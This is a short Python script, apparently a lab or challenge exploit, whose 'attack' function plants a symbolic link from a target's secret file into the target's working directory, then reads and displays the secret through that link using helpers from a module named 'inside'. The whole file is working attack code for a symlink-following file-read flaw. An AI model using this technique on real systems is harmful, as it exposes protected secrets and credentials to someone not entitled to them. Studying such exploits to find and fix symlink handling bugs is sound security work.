import os

from inside import run, show


def attack(target):
    os.symlink(target.secret, f"{target.work}/link")
    with open(f"{target.work}/link", "rb") as file:
        show(file.read())


run(attack)
